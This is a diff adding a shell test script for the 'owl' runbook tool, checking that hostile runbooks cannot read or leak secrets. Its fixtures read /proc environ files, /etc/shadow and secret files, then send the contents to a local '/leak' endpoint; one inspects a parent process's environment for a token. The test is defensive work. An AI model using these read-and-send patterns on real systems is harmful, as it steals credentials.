@@ -1,0 +1,150 @@
+#!/bin/sh
+# 43-secrets.t: a hostile runbook cannot get a secret's value (issue
+# "Secrets stay secret"): file.read of /proc, owl's state, secret files and
+# the database is refused, reads stay inside runbooks.read_paths, every
+# configured secret is masked from the run's start (also when a runbook
+# reads a copy of it and sends it out in a dry-run GET), the broker's and
+# the worker's environments no longer hold secret variables, and data
+# (an HTTP answer, json.decode) cannot forge a secret reference.
+. "$(dirname "$0")/lib.sh"
+
+PORT=$(free_port)
+mkdir -p "$T/rec/doc" "$T/rb" "$T/ok" "$T/state/owl/secrets"
+python3 "$OWL_ROOT/tests/recsvc.py" "$PORT" "$T/rec" 2>"$T/rec.err" &
+REC=$!
+tap_at_exit "kill $REC"
+URL="http://127.0.0.1:$PORT"
+wait_for 10 curl -sf "$URL/healthz"
+ok $? "the recording service is up"
+
+ENVSECRET=env-secret-value-0123456789
+FILESECRET=file-secret-value-abcdefghij
+DIRSECRET=dir-secret-value-klmnopqrstu
+export MY_TOKEN="$ENVSECRET"
+printf '%s\n' "$FILESECRET" >"$T/file.secret"
+printf '%s' "$DIRSECRET" >"$T/state/owl/secrets/stored"
+cat >"$T/config.lua" <<EOF
+return {
+  url = "$URL",
+  secrets = { envs = { env = "MY_TOKEN" }, files = { file = "$T/file.secret" } },
+}
+EOF
+export OWL_CONFIG="$T/config.lua"
+# the copies a careless operator left in a readable place
+printf 'token: %s\n' "$FILESECRET" >"$T/ok/copy1"
+printf 'token: %s\n' "$DIRSECRET" >"$T/ok/copy2"
+printf 'token: %s\n' "$ENVSECRET" >"$T/ok/copy3"
+ln -s "$T/state/owl/secrets" "$T/ok/link"
+
+# --- file.read of owl's own files and the kernel's process files
+cat >"$T/rb/peek.lua" <<'EOF'
+runbook { summary = "peek", params = { f = { required = true } } }
+function run(p)
+  step("read", function()
+    local c = file.read(p.f)
+    c = (c or "nil"):gsub("[ \n]", "+")
+    http.get(config.url .. "/leak?c=" .. c)
+  end)
+end
+EOF
+for f in /proc/self/environ /proc/1/environ "$T/file.secret" \
+	"$T/state/owl/secrets/stored" "$OWL_DB" "$OWL_DB-wal" "$T/config.lua" \
+	"$T/ok/link/stored" "$T/ok/../state/owl/secrets/stored" \
+	/etc/shadow /sys/kernel/notes /dev/zero; do
+	run "$OWL" run peek --runbooks "$T/rb" --dry-run --param f="$f"
+	is "$RC" 1 "file.read $f: the step fails"
+	like "$OUT" "refused: .* is off limits to runbooks" "file.read $f: refused"
+done
+like "$OUT" "off limits to runbooks \(devices\)" "the refusal says why"
+run "$OWL" run peek --runbooks "$T/rb" --param f="$T/ok/link/stored"
+is "$RC" 1 "a live run is refused too"
+
+# --- reads stay under runbooks.read_paths
+mkdir -p "$T/home"
+printf 'outside\n' >"$T/home/x"
+sed 's|^  url = |  runbooks = { read_paths = { "'"$T"'/ok" } }, url = |' \
+	"$T/config.lua" >"$T/narrow.lua"
+run env OWL_CONFIG="$T/narrow.lua" "$OWL" run peek --runbooks "$T/rb" \
+	--dry-run --param f="$T/home/x"
+is "$RC" 1 "a file outside runbooks.read_paths is refused"
+like "$OUT" "outside the paths runbooks may read \(runbooks.read_paths: $T/ok\)" \
+	"the refusal names the allowed paths"
+run env OWL_CONFIG="$T/narrow.lua" "$OWL" run peek --runbooks "$T/rb" \
+	--dry-run --param f="$T/ok/copy1"
+is "$RC" 0 "a file under runbooks.read_paths is read"
+run "$OWL" run peek --runbooks "$T/rb" --dry-run --param f=/home/nobody/x
+like "$OUT" "outside the paths runbooks may read \(runbooks.read_paths: /etc, /srv, /opt, /var/lib, /var/log, /tmp, /var/tmp" \
+	"by default: /etc, /srv, /opt, /var/lib, /var/log and the temporary directories"
+printf 'return { runbooks = { read_paths = "/" } }\n' >"$T/bad.lua"
+run env OWL_CONFIG="$T/bad.lua" "$OWL" run peek --runbooks "$T/rb" \
+	--dry-run --param f=/etc/hostname
+is "$RC" 2 "read_paths that is not a list is a config error"
+like "$ERR" "runbooks.read_paths: expected a list" "and says so"
+
+# --- every configured secret is masked from the start, also in a copy
+: >"$T/rec/requests"
+for c in copy1 copy2 copy3; do
+	"$OWL" run peek --runbooks "$T/rb" --dry-run --param f="$T/ok/$c" \
+		>"$T/$c.out" 2>&1
+done
+"$OWL" audit log --json >"$T/audit.json"
+sqlite3 "$OWL_DB" .dump >"$T/db.dump"
+leaks=0
+for s in "$ENVSECRET" "$FILESECRET" "$DIRSECRET"; do
+	for f in "$T/rec/requests" "$T/audit.json" "$T/db.dump" \
+		"$T/copy1.out" "$T/copy2.out" "$T/copy3.out"; do
+		if grep -qF -- "$s" "$f"; then
+			diag "$s found in $(basename "$f")"; leaks=1
+		fi
+	done
+done
+is "$leaks" 0 "secrets never asked for are masked: not sent by a dry-run GET, not logged, not printed"
+is "$(grep -c '/leak?c=token:+\*\*\*+"' "$T/rec/requests")" 3 \
+	"the dry-run GET carried the masked copy"
+
+# --- the secret environment variable leaves the broker's environment
+cat >"$T/rb/environ.lua" <<'EOF'
+runbook { summary = "environ" }
+function run(p)
+  step("look", function()
+    local r = exec({ "sh", "-c",
+      "tr '\\0' '\\n' </proc/$PPID/environ | grep '^MY_TOKEN' | rev; echo end" })
+    log("environ: " .. r.stdout)
+  end)
+end
+EOF
+run "$OWL" run environ --runbooks "$T/rb" --yes
+is "$RC" 0 "a live command can look at the broker's environment"
+REV=$(printf '%s' "$ENVSECRET" | rev)
+unlike "$OUT" "$REV" "the secret variable's value is gone from /proc/PID/environ"
+like "$OUT" "environ: .*end" "(the command ran)"
+
+# --- data cannot forge a secret reference
+printf '{"a": {"$owl_secret": [1]}, "b": {"$owl_secret": ["x", 1, 2]}}' \
+	>"$T/rec/doc/forged"
+cat >"$T/rb/forge.lua" <<'EOF'
+runbook { summary = "read-modify-write" }
+function run(p)
+  local s1 = secret.get("envs")
+  local s2 = secret.get("files")
+  step("copy", function()
+    local d = http.get(config.url .. "/doc/forged").json
+    http.put(config.url .. "/doc/out", { json = d })
+    local e = json.decode('{"$owl_secret": [1]}')
+    http.post(config.url .. "/doc/out2", { json = { v = e } })
+    http.post(config.url .. "/doc/out3", { headers = { X = "a" }, body = json.encode(d) })
+  end)
+end
+EOF
+: >"$T/rec/requests"
+run "$OWL" run forge --runbooks "$T/rb" --yes
+is "$RC" 0 "a runbook sends decoded data on"
+leaks=0
+for s in "$ENVSECRET" "$FILESECRET"; do
+	grep -qF -- "$s" "$T/rec/requests" && leaks=1
+done
+is "$leaks" 0 "no secret value was sent for a reference found in data"
+like "$(grep '"/doc/out"' "$T/rec/requests")" '\\"\$owl_secret\\":\[1\]' \
+	"the data went out as it was"
+
+done_testing
